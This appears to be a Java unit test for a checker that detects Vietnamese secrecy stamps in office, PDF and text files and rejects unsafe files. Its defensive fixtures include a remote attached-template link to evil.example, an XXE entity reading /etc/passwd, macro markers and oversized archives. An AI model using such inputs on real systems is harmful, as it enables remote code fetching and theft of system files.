package doanket.file;

import static org.assertj.core.api.Assertions.assertThat;

import doanket.file.PdfSamples.Drawn;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

class PaperCheckTest {

    private static final String W = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"";

    private final PaperText words = new PaperText();

    @TempDir
    Path folder;

    @ParameterizedTest
    @EnumSource(names = {"DOCX", "PDF", "XLSX", "PPTX", "ODT", "TXT", "CSV"})
    void tellsTheWordsOfAPaper(FileKind kind) {
        var text = "Xây dựng nông thôn mới";
        var bytes = switch (kind) {
            case DOCX -> Samples.docx(text);
            case PDF -> PdfSamples.lines(text);
            case XLSX -> OfficeSamples.xlsx(text, "1234567");
            case PPTX -> OfficeSamples.pptx(text);
            case ODT -> OfficeSamples.odt(text);
            default -> Samples.text(text + "\r\n");
        };

        assertThat(verdict(kind, bytes)).isEqualTo(PaperVerdict.FINE);
        assertThat(words.toString().strip().lines().findFirst()).contains(text);
    }

    @Test
    void tellsWordsThatStandInTheCellsOfASheetAndNoNumbers() {
        var sheet = "<worksheet><sheetData><row><c><v>42</v></c><c t=\"inlineStr\"><is><t>sa nhân</t></is></c>"
                + "<c><v>7</v></c></row></sheetData></worksheet>";

        verdict(FileKind.XLSX, OfficeSamples.xlsx(Map.of("xl/worksheets/sheet1.xml", Samples.text(sheet))));

        assertThat(words.toString().strip()).isEqualTo("sa nhân");
    }

    @Test
    void ofALongPaperTheBeginningIsTold() {
        verdict(FileKind.TXT, Samples.text("nông thôn mới \u0007\n".repeat(50_000)));

        assertThat(words.toString())
                .hasSizeLessThanOrEqualTo(PaperText.LONGEST + 1)
                .startsWith("nông thôn mới")
                .doesNotContain("\u0007");
    }

    @Test
    void ordinaryPapersPass() {
        assertThat(verdict(FileKind.DOCX, Samples.docx("Báo cáo", "Bảo vệ bí mật nhà nước", "MẶT TRẬN TỔ QUỐC")))
                .isEqualTo(PaperVerdict.FINE);
        assertThat(verdict(FileKind.PDF, PdfSamples.lines("Báo cáo", "Bảo vệ bí mật nhà nước", "MẬT ONG")))
                .isEqualTo(PaperVerdict.FINE);
        assertThat(verdict(FileKind.XLSX, OfficeSamples.xlsx("Mật độ", "120"))).isEqualTo(PaperVerdict.FINE);
        assertThat(verdict(FileKind.PPTX, OfficeSamples.pptx("Bí mật"))).isEqualTo(PaperVerdict.FINE);
        assertThat(verdict(FileKind.ODT, OfficeSamples.odt("Bí mật"))).isEqualTo(PaperVerdict.FINE);
        assertThat(verdict(FileKind.TXT, Samples.text("Giữ bí mật\nnhà nước"))).isEqualTo(PaperVerdict.FINE);
    }

    @Test
    void findsTheStampInEachKindOfPaper() {
        assertThat(verdict(FileKind.DOCX, Samples.docx("Báo cáo", "TỐI MẬT"))).isEqualTo(PaperVerdict.SECRET);
        assertThat(verdict(FileKind.PDF, PdfSamples.lines("Báo cáo", "M Ậ T", "Nội dung")))
                .isEqualTo(PaperVerdict.SECRET);
        assertThat(verdict(FileKind.XLSX, OfficeSamples.xlsx("Biểu 01", "MẬT"))).isEqualTo(PaperVerdict.SECRET);
        assertThat(verdict(FileKind.PPTX, OfficeSamples.pptx("TUYỆT MẬT"))).isEqualTo(PaperVerdict.SECRET);
        assertThat(verdict(FileKind.ODT, OfficeSamples.odt("MẬT"))).isEqualTo(PaperVerdict.SECRET);
        assertThat(verdict(FileKind.TXT, Samples.text("Số 12\r\nMẬT\r\nBáo cáo")))
                .isEqualTo(PaperVerdict.SECRET);
        assertThat(verdict(FileKind.CSV, Samples.text("Tên\tĐộ\nA\tMẬT"))).isEqualTo(PaperVerdict.SECRET);
    }

    @Test
    void aWordCutIntoPiecesIsStillOneWord() {
        var pieces = "<w:p><w:r><w:t>BÍ </w:t></w:r><w:r><w:t>MẬT</w:t></w:r></w:p>";
        var stamp = "<w:p><w:r><w:t>M</w:t></w:r><w:r><w:t>ẬT</w:t></w:r></w:p>";

        assertThat(verdict(FileKind.DOCX, Samples.docx(pieces, Map.of()))).isEqualTo(PaperVerdict.FINE);
        assertThat(verdict(FileKind.DOCX, Samples.docx(stamp, Map.of()))).isEqualTo(PaperVerdict.SECRET);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<w:p><w:r><w:t>UBND XÃ</w:t></w:r><w:r><w:tab/><w:t>MẬT</w:t></w:r></w:p>",
                "<w:p><w:r><w:t>Báo cáo<w:br/>MẬT<w:br/>hết</w:t></w:r></w:p>",
                "<w:p><w:r><w:pict><w:txbxContent><w:p><w:r><w:t>MẬT</w:t></w:r></w:p></w:txbxContent></w:pict>"
                        + "<w:t>Báo cáo</w:t></w:r></w:p>",
                "<w:p><w:r><w:pict><v:textpath xmlns:v=\"urn:v\" string=\"TUYỆT MẬT\"/></w:pict></w:r></w:p>",
                "<w:tbl><w:tr><w:tc><w:p><w:r><w:t>MẬT</w:t></w:r></w:p></w:tc></w:tr></w:tbl>"
            })
    void findsTheStampWhereverItStandsInAPaper(String body) {
        assertThat(verdict(FileKind.DOCX, Samples.docx(body, Map.of()))).isEqualTo(PaperVerdict.SECRET);
    }

    @Test
    void findsTheStampInHeadersAndInWhatAPaperSaysOfItself() {
        var header = Samples.text("<w:hdr " + W + "><w:p><w:r><w:t>MẬT</w:t></w:r></w:p></w:hdr>");
        var about = Samples.text("<c:coreProperties xmlns:c=\"urn:c\" xmlns:dc=\"urn:dc\"><dc:title>Kế hoạch</dc:title>"
                + "<dc:subject>Tối mật</dc:subject><c:keywords>TỐI MẬT</c:keywords></c:coreProperties>");
        var margin = Samples.text("<worksheet xmlns=\"urn:x\"><headerFooter><oddHeader>&amp;L&amp;\"Times,Bold\"&amp;14"
                + "MẬT&amp;RTrang &amp;P</oddHeader></headerFooter></worksheet>");

        assertThat(verdict(FileKind.DOCX, Samples.docx("<w:p/>", Map.of("word/header1.xml", header))))
                .isEqualTo(PaperVerdict.SECRET);
        assertThat(verdict(FileKind.DOCX, Samples.docx("<w:p/>", Map.of("docProps/core.xml", about))))
                .isEqualTo(PaperVerdict.SECRET);
        assertThat(verdict(FileKind.XLSX, OfficeSamples.xlsx(Map.of("xl/worksheets/sheet2.xml", margin))))
                .isEqualTo(PaperVerdict.SECRET);
    }

    @Test
    void findsTheStampBesideOtherWordsAndAslantOnAPage() {
        var beside = PdfSamples.drawn(
                new Drawn(60, 760, "ỦY BAN NHÂN DÂN"), new Drawn(400, 760, "MẬT"), new Drawn(60, 700, "Báo cáo"));
        var aslant = PdfSamples.drawn(
                new Drawn(100, 300, "M"),
                new Drawn(130, 330, "Ậ"),
                new Drawn(160, 360, "T"),
                new Drawn(60, 700, "Hết"));

        assertThat(verdict(FileKind.PDF, beside)).isEqualTo(PaperVerdict.SECRET);
        assertThat(verdict(FileKind.PDF, aslant)).isEqualTo(PaperVerdict.SECRET);
        assertThat(verdict(FileKind.PDF, PdfSamples.withNote("TỐI MẬT"))).isEqualTo(PaperVerdict.SECRET);
    }

    @Test
    void readsTextOfOlderPrograms() {
        assertThat(verdict(FileKind.TXT, "Số 12\nMẬT\n".getBytes(StandardCharsets.UTF_16)))
                .isEqualTo(PaperVerdict.SECRET);
        assertThat(verdict(FileKind.TXT, "Soá 12\nTOÁI MAÄT\n".getBytes(Charset.forName("windows-1252"))))
                .isEqualTo(PaperVerdict.SECRET);
        assertThat(verdict(FileKind.TXT, "x\nM\u00C2\u0323T\n\u00D4\u0301".getBytes(Charset.forName("windows-1258"))))
                .isEqualTo(PaperVerdict.SECRET);
    }

    @Test
    void refusesPapersWithAProgramInThem() {
        assertThat(verdict(FileKind.DOCX, Samples.docx("<w:p/>", Map.of("word/vbaProject.bin", new byte[] {1}))))
                .isEqualTo(PaperVerdict.HAS_PROGRAM);
        var macros = Samples.text("<Types><Override ContentType=\"application/vnd.ms-word.document.macroEnabled"
                + ".main+xml\"/></Types>");
        assertThat(verdict(FileKind.DOCX, Samples.docx("<w:p/>", Map.of("[Content_Types].xml", macros))))
                .isEqualTo(PaperVerdict.HAS_PROGRAM);
        var fetched = Samples.text("<Relationships><Relationship Type=\"http://x/attachedTemplate\""
                + " Target=\"https://evil.example/a.dotm\" TargetMode=\"External\"/></Relationships>");
        assertThat(verdict(FileKind.DOCX, Samples.docx("<w:p/>", Map.of("word/_rels/settings.xml.rels", fetched))))
                .isEqualTo(PaperVerdict.HAS_PROGRAM);
        assertThat(verdict(FileKind.PDF, PdfSamples.thatRunsAScript())).isEqualTo(PaperVerdict.HAS_PROGRAM);
        assertThat(verdict(FileKind.PDF, PdfSamples.thatStartsAProgram())).isEqualTo(PaperVerdict.HAS_PROGRAM);
    }

    @Test
    void refusesALockedPaper() {
        assertThat(verdict(FileKind.PDF, PdfSamples.locked())).isEqualTo(PaperVerdict.LOCKED);
    }

    @Test
    void refusesAnArchiveThatUnfoldsTooFarOrHasTooManyParts() {
        assertThat(verdict(FileKind.DOCX, Samples.docx("<w:p/>", Map.of("word/media/a.bin", new byte[40_000_000]))))
                .isEqualTo(PaperVerdict.BURSTING);
        assertThat(verdict(FileKind.DOCX, Samples.docx("<w:p/>", OfficeSamples.parts(6_000))))
                .isEqualTo(PaperVerdict.BURSTING);
    }

    @Test
    void refusesWhatIsBrokenOrSomethingElse() {
        var whole = Samples.docx("Báo cáo");
        assertThat(verdict(FileKind.DOCX, Arrays.copyOf(whole, whole.length / 2)))
                .isEqualTo(PaperVerdict.BROKEN);
        assertThat(verdict(FileKind.XLSX, whole)).isEqualTo(PaperVerdict.BROKEN);
        assertThat(verdict(FileKind.ODS, OfficeSamples.odt("x"))).isEqualTo(PaperVerdict.BROKEN);
        assertThat(verdict(FileKind.DOCX, Samples.zip(Map.of("a.txt", new byte[] {1}))))
                .isEqualTo(PaperVerdict.BROKEN);
        assertThat(verdict(FileKind.DOCX, Samples.docx("<w:p>", Map.of()))).isEqualTo(PaperVerdict.BROKEN);
        assertThat(verdict(FileKind.PDF, Samples.text("%PDF-1.7\nx"))).isEqualTo(PaperVerdict.BROKEN);
    }

    /** One name that stands for another, ten times over: a few lines that would become a billion. */
    @Test
    void aPaperCannotMakeTheReaderMultiplyOrFetch() {
        var laughs = Samples.text("<!DOCTYPE d [<!ENTITY a \"MẬT\"><!ENTITY b SYSTEM \"file:///etc/passwd\">]>"
                + "<d><p>&a;</p><p>&b;</p></d>");

        assertThat(verdict(FileKind.DOCX, Samples.docx("<w:p/>", Map.of("word/x.xml", laughs))))
                .isNotEqualTo(PaperVerdict.SECRET);
    }

    private PaperVerdict verdict(FileKind kind, byte[] bytes) {
        try {
            return PaperCheck.verdict(kind, Files.write(folder.resolve("paper"), bytes), words);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
